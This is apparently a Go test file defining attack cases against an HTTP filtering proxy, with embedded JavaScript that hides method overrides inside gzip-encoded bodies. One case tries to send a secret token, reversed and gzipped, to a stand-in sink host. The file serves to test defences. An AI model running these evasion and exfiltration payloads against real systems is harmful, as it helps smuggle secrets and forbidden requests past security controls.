package attack

// encoded are requests whose body is in an encoding: what is looked for is inside it. Each program tries many, and none may
// arrive. shared.test restricts DELETE.
func encoded() []Attack {
	const must = "refused, nothing sent whole"
	const pack = `const gzip = async (s) => new Uint8Array(await new Response(new Blob([s]).stream().pipeThrough(new CompressionStream("gzip"))).arrayBuffer());
const long = Array.from({ length: 8 }, () => Array.from(crypto.getRandomValues(new Uint8Array(65536))).map((b) => String.fromCharCode(97 + b % 26)).join("")).join("");
const send = async (type, encodings, text) => {
  const body = await gzip(text);
  const head = "POST /anything?t=TRIAL HTTP/1.1\r\nHost: shared.test\r\nAuthorization: Bearer SHARED_A_TOKEN\r\n" + (type ? "Content-Type: " + type + "\r\n" : "") +
    encodings.map((e) => "Content-Encoding: " + e + "\r\n").join("") + "Content-Length: " + body.length + "\r\nConnection: close\r\n\r\n";
  const all = new Uint8Array(head.length + body.length);
  all.set(new TextEncoder().encode(head)); all.set(body, head.length);
  await raw("shared.test", "shared.test", all, { ms: 15000 });
};
`
	row := func(name, code string, codes ...string) Attack {
		return Attack{Section: "A", Name: name, Expected: must, Judge: nothingWhole(codes...), Code: pack + code, Seconds: 60, Unredacted: true}
	}
	return []Attack{
		row("overrides in gzip", `for (const type of ["text/plain", "application/octet-stream", "application/json", ""]) await send(type, ["gzip"], '{"_method":"DELETE"}');
await send("text/plain", ["gzip"], '{"x":"' + long + '","_method":"DELETE"}');`, "override_unseen"),
		row("overrides in gzip that a second Content-Encoding names", `for (const first of ["identity", ""]) await send("application/x-www-form-urlencoded", [first, "gzip"], "_method=DELETE");`, "method_restricted"),
		{
			Section: "A", Name: "a value that got out, at the end of a long gzipped body", Expected: "never arrives", Judge: stuck, Seconds: 60, Unredacted: true,
			Code: pack + `const value = "REVERSED_HTTPBIN_TOKEN".split("").reverse().join("");
await show(fetch("https://other.test/x/sink?t=TRIAL", { method: "POST", headers: { "Content-Encoding": "gzip" }, body: await gzip(long + " " + value) }));`,
		},
	}
}
